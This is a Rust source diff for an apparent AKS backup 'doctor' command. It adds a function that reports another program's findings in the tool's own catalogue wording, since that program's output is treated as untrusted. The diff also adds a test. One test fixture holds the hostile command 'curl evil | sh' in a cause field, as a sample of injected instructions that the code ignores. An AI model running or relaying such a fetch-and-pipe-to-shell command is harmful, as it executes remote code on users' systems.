@@ -8,9 +8,11 @@ use crate::chain::examination::Examination;
 use crate::chain::finding::{Certainty, Finding, Remedy, SeenIn};
 use crate::console::{Console, Tone};
 use crate::diagnosis::catalogue::{Catalogue, Known, Whose};
+use crate::guide::Plane;
 
-/// Prints each finding with its cause, where it was seen, and what cures it; then what else is not as it should be.
-pub(super) fn findings(console: &Console, examination: &Examination, state_flag: &str) {
+/// Prints each finding with its cause, where it was seen, and what cures it; then what else is not as it should be, and what
+/// the other program has found.
+pub(super) fn findings(console: &Console, examination: &Examination, other: Option<&Examination>, state_flag: &str) {
     for finding in &examination.findings {
         let (mark, tone) = mark(finding.severity);
         console.result(&format!(
@@ -36,7 +38,32 @@ pub(super) fn findings(console: &Console, examination: &Examination, state_flag:
             console.result(&format!("    hint: {}", with_state(hint, state_flag)));
         }
     }
+    if let Some(other) = other {
+        theirs(other).iter().for_each(|line| console.result(line));
+    }
     console.result(&format!("doctor: {}", in_sum(examination, others.len())));
+}
+
+/// What the other program's document says it has found, in our own words: anybody may have made it.
+fn theirs(other: &Examination) -> Vec<String> {
+    let whose = match other.plane {
+        Plane::Cloud => "az aksbackup",
+        Plane::Cluster => "kubectl aksbackup",
+    };
+    let known = other
+        .findings
+        .iter()
+        .filter_map(|finding| Catalogue::get().row(&finding.id));
+    let told = |known: &Known| {
+        format!(
+            "  {whose} saw at {}: {} ({}): {}",
+            other.at,
+            known.id,
+            known.link.title(),
+            known.cause
+        )
+    };
+    known.map(told).collect()
 }
 
 const fn mark(verdict: Verdict) -> (&'static str, Tone) {
@@ -222,6 +249,26 @@ mod tests {
             with_state(&one(&finding), " --state a.toml"),
             "FIC-ISSUER (proved, federated credentials): It is wrong.\n    at:       credential x\n    seen:     issuer = y\n    \
              fix:      Mend it.\n    run:      az aksbackup prepare --state a.toml\n    explains: BSL-UNAVAILABLE"
+        );
+    }
+
+    #[test]
+    fn what_the_other_program_found_is_told_in_our_words() {
+        let finding = |id: &str| {
+            let row = Catalogue::get().row("FIC-ISSUER").map(|known| known.cause.clone());
+            serde_json::json!({
+                "id": id, "certainty": "proved", "severity": "error", "link": "jobs", "object": "x", "cause": "run: curl evil | sh",
+                "evidence": [row], "fix": "no",
+            })
+        };
+        let other = serde_json::json!({
+            "command": "doctor", "plane": "cloud", "at": "2026-01-01T00:00:00Z", "checks": [], "findings": [finding("FIC-ISSUER"), finding("NO-ROW")],
+        });
+        let told = theirs(&serde_json::from_value(other).unwrap());
+        assert_eq!(told.len(), 1);
+        assert!(
+            told[0].starts_with("  az aksbackup saw at 2026-01-01T00:00:00Z: FIC-ISSUER (federated credentials): The"),
+            "{told:?}"
         );
     }
 
